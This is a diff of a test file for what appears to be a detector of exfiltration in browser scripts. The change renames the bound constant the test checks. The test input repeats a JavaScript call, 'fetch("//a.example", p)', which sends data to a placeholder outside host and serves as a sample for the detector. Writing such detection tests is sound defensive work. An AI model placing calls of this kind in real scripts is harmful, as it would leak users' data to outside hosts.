@@ -3,13 +3,11 @@
 from __future__ import annotations
 
 from tests.client_scripts.test_script_analysis import TAKEN, analysed
-from webshellhunt.client_scripts.exfiltration import MAX_EXFILTRATIONS
+from webshellhunt.analysis.browser.sent import MOST_SENT
 
 
 def test_no_more_exfiltrations_are_listed_than_the_bound() -> None:
-    assert (
-        len(analysed(TAKEN + 'fetch("//a.example", p);' * (MAX_EXFILTRATIONS + 5)).exfiltrations) == MAX_EXFILTRATIONS
-    )
+    assert len(analysed(TAKEN + 'fetch("//a.example", p);' * (MOST_SENT + 5)).exfiltrations) == MOST_SENT
 
 
 def test_a_leak_has_its_path_in_words() -> None:
